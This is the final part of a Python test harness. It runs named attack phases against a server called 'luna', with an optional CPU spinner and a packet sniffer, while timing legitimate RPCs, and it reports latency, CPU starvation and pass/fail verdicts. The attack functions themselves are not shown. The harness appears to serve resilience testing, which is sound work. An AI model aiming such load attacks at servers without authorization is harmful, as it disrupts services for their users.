        raise SystemExit(f"LUNA_ATTACK_SPIN={spin!r}: 0 (the default) or 1 (a SCHED_IDLE spinner on CPU 1)")
    if spin == "1":
        # On this process's CPU (1 when pinned), bounded by the whole run's length.
        spinner = interleave.start_spinner(sys.executable, len(steps) * (secs * 4 + 10) + 60)
        sched["spinner"] = "SCHED_IDLE busy loop on the attacker's CPU"
    try:
        run(ip, port, iface, secs, out, stop, reps, steps, min_samples, spread_max, sched, spinner)
    finally:
        if spinner:
            spinner.kill()
            spinner.wait()


def run(ip, port, iface, secs, out, stop, reps, steps, min_samples, spread_max, sched, spinner):
    legit = Legit(ip, port)
    sched.update(attacker_priority())
    c = Ctx(ip, port, iface, secs, legit)
    cpu = CpuMeter(legit.p.pid)
    if spinner:
        cpu.pids["spinner"] = spinner.pid
    c.sniffer.start()
    time.sleep(0.5)
    # What pinning was in effect (every thread: scapy's sniffer started above).
    sched["affinity"] = {k: interleave.affinity(v) for k, v in
                         [("attacker", os.getpid())] + sorted(cpu.pids.items())}
    results = []
    ok = True
    phase_file = os.environ.get("LUNA_ATTACK_PHASE_FILE")
    for i, (kind, name, rep) in enumerate(steps):
        fn = globals()["ph_" + name]
        announce(phase_file, f"{i} {name}")
        before = dict(c.replies)
        c0 = cpu.read()
        t0 = time.monotonic()
        err = None
        try:
            sent = fn(c)
        except Exception as e:  # a phase that cannot run is a failure, reported
            sent, err = 0, f"{type(e).__name__}: {e}"
            ok = False
        t1 = time.monotonic()
        c1 = cpu.read()
        r = {k: c.replies[k] - before[k] for k in c.replies}
        results.append({"phase": name, "kind": kind, "rep": rep, "t0": t0, "t1": t1,
                        "seconds": round(t1 - t0, 3), "sent": sent,
                        "luna_replies": r, "cpu_s": CpuMeter.delta(c0, c1), "error": err})
        print("PHASE", name, "rep", rep, "sent", sent, "cpu_s", json.dumps(results[-1]["cpu_s"]), flush=True)
        if c.legit.errors:
            ok = False
            break
    announce(phase_file, "end")
    c.sniffer.stop()
    c.legit.finish(20)
    for r in results:
        lat = c.legit.window(r.pop("t0"), r.pop("t1"))
        r.update({"rpcs": len(lat),
                  "p50_us": None if not lat else round(pct(lat, 0.5) * 1e6, 1),
                  "p99_us": None if not lat else round(pct(lat, 0.99) * 1e6, 1),
                  "legit_alive": not c.legit.errors})
    for i, r in enumerate(results):
        r["failure"] = r["error"] or (None if r["rpcs"] else "no legitimate RPC in the phase")
        # A phase without an RPC because the machine did not run the server says nothing
        # about the connection. Seen on the busy shared VM: 1 s phases in which luna's
        # busy-polling server got 0.00-0.01 CPU-s (and the client 0.00), once with its
        # threads runnable but waiting, once with the wait only accounted in the next phase.
        # Excused only when the server ran less than STARVED_CPU of the phase or waited for
        # a CPU at least STARVED_WAIT of it, and the next phase has RPCs again (the
        # connection carried traffic after the attack). Reported as `starved`, never hidden;
        # a luna that spins stuck uses its CPU and is not excused.
        nxt = results[i + 1] if i + 1 < len(results) else None
        cs = r["cpu_s"] or {}
        wait, srv = cs.get("server_runqueue_wait"), cs.get("server")
        starved = (wait is not None and wait >= STARVED_WAIT * r["seconds"]) or (
            srv is not None and srv < STARVED_CPU * r["seconds"])
        if not r["error"] and not r["rpcs"] and starved and nxt is not None and nxt["rpcs"] > 0:
            r["failure"] = None
            r["starved"] = (f"no RPC: the server ran {srv} CPU-s and waited up to {wait} s for a CPU in "
                            f"{r['seconds']} s; {nxt['rpcs']} RPCs in the next phase")
    ok = ok and not c.legit.errors and not any(p["failure"] for p in results)
    doc = {"phases": results, "legit_errors": c.legit.errors, "ok": ok, "scheduling": sched,
           "server": os.environ.get("LUNA_ATTACK_SERVER_KIND", "luna"), "phase_seconds": secs,
           "reps": reps}
    if reps is None:
        base = next((p["p99_us"] for p in results if p["phase"] == "baseline" and p["p99_us"]), None)
        if base:
            for p in results:
                p["p99_over_baseline"] = None if p["p99_us"] is None else round(p["p99_us"] / base, 2)
    else:
        summary = interleave.verdicts(results, lambda p: p["phase"], "p99_us", "rpcs",
                                      min_samples=min_samples, spread_max=spread_max)
        doc.update({"summary": summary, "verdicts": interleave.counts(summary),
                    "method": {"limit": interleave.LIMIT, "min_samples": min_samples,
                               "spread_max": spread_max}})
    for r in results:
        print("PHASE", json.dumps(r), flush=True)
    if reps is not None:
        print("SUMMARY (p99 against the neighbouring baselines, %d repetitions of %g s phases; "
              "baselines need >= %d samples)" % (reps, secs, min_samples), flush=True)
        for line in interleave.markdown(doc["summary"]).splitlines():
            print("SUMMARY", line, flush=True)
        print("VERDICTS", json.dumps(doc["verdicts"]), flush=True)
    json.dump(doc, open(out, "w"), indent=1)
    open(stop, "w").write("stop")
    print("ATTACK", "ok" if ok else "failed", json.dumps(c.legit.errors), json.dumps(sched), flush=True)
    sys.exit(0 if ok else 1)


if __name__ == "__main__":
    if sys.argv[1:2] == ["--legit"]:
        sys.exit(main())
    try:
        main()
    finally:
        # Whatever happened, let the server end (it waits for this file).
        if len(sys.argv) > 6:
            open(sys.argv[6], "a").close()
